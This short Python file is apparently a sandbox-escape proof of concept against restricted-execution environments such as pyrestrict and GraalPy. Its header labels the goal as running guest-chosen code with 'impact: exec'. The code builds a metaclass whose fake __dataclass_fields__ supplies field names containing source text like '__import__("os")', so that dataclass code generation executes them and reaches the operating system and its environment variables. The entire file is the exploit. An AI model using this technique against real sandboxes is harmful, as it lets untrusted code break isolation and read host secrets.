# technique: type() makes a metaclass whose property answers __dataclass_fields__ with names that are source text
# source: reading pyrestrict and GraalPy's library
# goal: run text of the guest's choice with no guard in it
# impact: exec
import dataclasses
class Fake:
    name = 'x=__import__("os").environ'
    init = True
MM = type('MM', (type,), {'__dataclass_fields__': property(lambda c: {'a': f})})
class FF(dataclasses.Field):
    name = 'x:int=__import__("os"), y'
f = FF(dataclasses.MISSING, dataclasses.MISSING, True, True, None, True, None, False)
class B(metaclass=MM):
    pass
class C(B):
    z: int = 1
C = dataclasses.dataclass(C)
escaped(C)
